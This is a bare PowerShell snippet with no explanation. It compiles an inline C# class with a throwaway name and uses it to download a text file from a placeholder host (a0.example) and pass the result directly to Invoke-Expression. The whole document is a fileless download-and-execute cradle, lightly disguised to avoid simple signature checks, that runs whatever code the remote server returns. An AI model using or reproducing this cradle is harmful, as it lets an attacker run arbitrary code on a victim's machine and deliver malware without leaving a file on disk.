Add-Type -TypeDefinition @'
using System; using System.Net;
public class Xx { public static string G(string u){ using(var c=new WebClient()){ return c.DownloadString(u);} } }
'@
iex ([Xx]::G('http://a0.example/p.txt'))